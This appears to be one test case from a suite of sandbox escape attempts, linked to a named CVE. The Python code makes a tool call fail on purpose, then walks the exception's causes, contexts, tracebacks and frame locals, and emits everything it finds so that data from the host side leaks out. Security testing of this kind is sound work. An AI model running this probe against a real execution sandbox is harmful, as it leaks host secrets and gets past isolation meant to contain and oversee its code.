# Tries: whatever a failed call brings along: attributes, causes, contexts, tracebacks, and the locals of their frames.
# Origin: CVE-2026-22686 (the error of a failed tool call was the way out).
# control: naive prelude

found, seen, waiting = [], set(), []
try:
    await tools.betray()
except Exception as error:
    waiting.append(error)
while waiting and len(seen) < 3000:
    item = waiting.pop()
    if id(item) in seen:
        continue
    seen.add(id(item))
    found.append(repr(item)[:500])
    if isinstance(item, BaseException):
        waiting += [item.args, vars(item), item.__cause__, item.__context__, item.__traceback__]
        waiting += getattr(item, "__notes__", [])
    elif isinstance(item, dict):
        waiting += list(item.values())
    elif isinstance(item, (list, tuple)):
        waiting += item
    frame = getattr(item, "tb_frame", None)
    if frame is not None:
        waiting += [dict(frame.f_locals), item.tb_next]
emit("\n".join(found)[:100_000])
